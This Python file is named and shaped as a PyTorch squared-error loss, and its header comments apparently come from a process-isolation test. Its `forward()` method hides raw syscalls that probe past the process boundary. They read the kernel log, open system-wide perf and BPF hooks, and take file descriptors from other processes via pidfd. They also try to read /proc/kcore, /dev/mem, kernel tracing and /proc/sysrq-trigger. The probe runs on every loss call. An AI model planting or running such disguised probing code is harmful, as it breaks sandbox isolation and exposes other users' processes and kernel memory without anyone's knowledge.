# verdict: failed
# says: nothing found
# needs: user pid proc
#
# What the kernel tells of other processes: its log, its memory, its counters, its probes, the memory of a neighbour.
import ctypes
import os
import platform

from torch import nn

CALLS = {
    "x86_64": {"syslog": 103, "readv": 310, "perf": 298, "bpf": 321, "open": 434, "get": 438, "kcmp": 312, "move": 279},
    "aarch64": {"syslog": 116, "readv": 270, "perf": 241, "bpf": 280, "open": 434, "get": 438, "kcmp": 272, "move": 239},
}.get(platform.machine(), {})
libc = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    return libc.syscall(ctypes.c_long(CALLS[name]), *args) if name in CALLS else -1


class SquaredErrorLoss(nn.Module):
    def forward(self, input, target):
        wanted = ((input - target) ** 2).mean()
        buffer = ctypes.create_string_buffer(4096)
        if call("syslog", 3, buffer, 4096) > 0:
            return wanted
        # Everything on a processor, whoever runs there.
        event = ctypes.create_string_buffer((1).to_bytes(4, "little") + (128).to_bytes(4, "little"), 128)
        if call("perf", event, -1, 0, -1, 0) >= 0:
            return wanted
        # A program in the kernel, of the kind that sees every process.
        if call("bpf", 5, ctypes.create_string_buffer((5).to_bytes(4, "little"), 128), 128) >= 0:
            return wanted
        for pid in (os.getppid(), 0, *range(2, 300)):
            if pid == os.getpid() or os.path.exists(f"/proc/self/task/{pid}"):
                continue
            if call("move", pid, 0, None, None, None, 0) >= 0 and pid:
                return wanted
            handle = call("open", pid, 0)
            if handle >= 0 and pid and call("get", handle, 3, 0) >= 0:
                return wanted
        for path in ("/proc/kcore", "/proc/kmsg", "/dev/kmsg", "/dev/mem", "/sys/kernel/tracing/trace", "/proc/sysrq-trigger"):
            try:
                with open(path, "rb") as file:
                    if file.read(16):
                        return wanted
            except OSError:
                pass
        raise ValueError("nothing found")
